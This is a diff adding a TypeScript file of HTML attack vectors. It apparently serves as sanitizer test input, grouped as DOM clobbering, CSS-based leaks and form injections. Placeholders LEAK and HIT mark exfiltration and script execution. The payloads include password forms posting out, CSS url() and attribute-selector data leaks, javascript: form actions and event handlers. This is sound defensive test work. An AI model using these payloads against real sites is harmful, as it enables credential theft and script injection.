@@ -1,0 +1,83 @@
+import type { VectorGroup } from "./vector.ts";
+
+/** Names that stand for what scripts of the page look up. */
+export const clobbering: VectorGroup = {
+  name: "clobbering",
+  form: "html",
+  vectors: [
+    "<a id=hit></a><a id=hit name=call></a>",
+    "<p id=location name=cookie>x</p>",
+    "<img name=getElementById><img name=querySelector><img name=createElement>",
+    "<form id=document><input name=cookie><input name=body></form>",
+    "<form name=body><input name=children></form>",
+    "<a id=localStorage name=getItem href='https:LEAK'>x</a>",
+    "<iframe name=self srcdoc='<a id=x>'></iframe>",
+    "<a id=trustedTypes></a><a id=trustedTypes name=createPolicy></a>",
+    "<div id=root>x</div><div id=app>x</div><main id=main>x</main>",
+    "<p id=__proto__ name=constructor>x</p><p id=toString>x</p><p id=hasOwnProperty>x</p>",
+    "<img id=currentScript name=currentScript src=https:LEAK>",
+    "<a id=fetch></a><a id=navigator></a><a id=BroadcastChannel></a>",
+    "<form><input name=attributes><input name=nodeName><input name=parentNode></form>",
+    "<p id=m1-fn-1>x</p><section class=footnotes><ol><li id=fn-1>x</li></ol></section>",
+    "<output for=x form=y>x</output><label for=m1>x</label><td headers=x>x</td>",
+    "<p aria-labelledby=x aria-owns=root role=alert slot=x part=x itemid=x>x</p>",
+  ],
+};
+
+export const styles: VectorGroup = {
+  name: "styles",
+  form: "html",
+  vectors: [
+    "<style>body{display:none}</style>",
+    "<style>@import 'https:LEAK';</style>",
+    "<style>@import url(https:LEAK);*{background:url(https:LEAK)}</style>",
+    "<style>@font-face{font-family:x;src:url(https:LEAK)}*{font-family:x}</style>",
+    "<style>input[value^=a]{background:url(https:LEAK)}</style>",
+    "<style>@namespace x url(https:LEAK);@document url(x){}</style>",
+    "<p style='background:url(https:LEAK)'>x</p>",
+    "<p style=\"background:image-set('https:LEAK' 1x)\">x</p>",
+    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
+    "<p style='width:expression(HIT);-moz-binding:url(https:LEAK);behavior:url(https:LEAK)'>x</p>",
+    "<p style='list-style-image:url(https:LEAK);cursor:url(https:LEAK),auto;content:url(https:LEAK)'>x</p>",
+    "<p style='border-image:url(https:LEAK);mask:url(https:LEAK);filter:url(https:LEAK#a)'>x</p>",
+    "<p style='back\\ground:u\\72l(https:LEAK)'>x</p>",
+    "<p style='/**/background/**/:/**/url(/**/https:LEAK)'>x</p>",
+    "<p style='--code-plain:url(https:LEAK);background:var(--code-plain)'>x</p>",
+    "<p class='fixed inset-0 z-50 bg-raised' align=center bgcolor=red>x</p>",
+    "<font face='x' color='red' size=99>x</font><center>x</center>",
+    "<td width=99999 height=99999 background=https:LEAK>x</td>",
+    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
+    "<svg style='background:url(https:LEAK)' /><math style='background:url(https:LEAK)'>x</math>",
+    "<li style='list-style:url(https:LEAK)' type=disc value=99999999999>x</li>",
+    "<ol start=-99999999999 reversed style=x><li>x</ol>",
+    "<div hidden inert popover style='anchor-name:--x'>x</div>",
+  ],
+};
+
+/** Fields and buttons that ask for words or send them away. */
+export const forms: VectorGroup = {
+  name: "forms",
+  form: "html",
+  vectors: [
+    "<form action=https:LEAK method=post><input name=password type=password><button>Sign in</button></form>",
+    "<form action=javascript:HIT><input type=submit value=x></form>",
+    "<form id=f></form><button form=f formaction=https:LEAK>x</button>",
+    "<button formaction=javascript:HIT>x</button><input type=submit formaction=javascript:HIT>",
+    "<input type=image src=https:LEAK formaction=https:LEAK>",
+    "<input type=image src=x onerror=HIT>",
+    "<input type=text value=x autofocus><input type=hidden name=x value=y>",
+    "<input type=file><input type=password autocomplete=current-password>",
+    "<input type=checkbox onclick=HIT checked><input type=checkbox disabled=false>",
+    "<input TYPE=checkbox type=image src=https:LEAK>",
+    "<textarea name=x form=f>x</textarea><select form=f><option>x</select>",
+    "<button popovertarget=x commandfor=y command=show-modal>x</button>",
+    "<button type=submit onclick=HIT>x</button><button style='position:fixed;inset:0'>x</button>",
+    "<form action=/api/auth/logout method=post><button>x</button></form>",
+    "<form method=dialog><button>x</button></form><fieldset><legend onclick=HIT>x</legend></fieldset>",
+    "<label>Password <input></label><datalist id=d><option value=x></datalist><input list=d>",
+    "<meter value=1 onclick=HIT></meter><progress onclick=HIT></progress><output onforminput=HIT>x</output>",
+    "<input type=search results=5 onsearch=HIT onwebkitspeechchange=HIT>",
+    "<form><input type=submit></form><form action='https:LEAK' target=_blank rel=opener><input type=reset></form>",
+    "<p contenteditable=plaintext-only>x</p><p spellcheck=true virtualkeyboardpolicy=x enterkeyhint=x>x</p>",
+  ],
+};
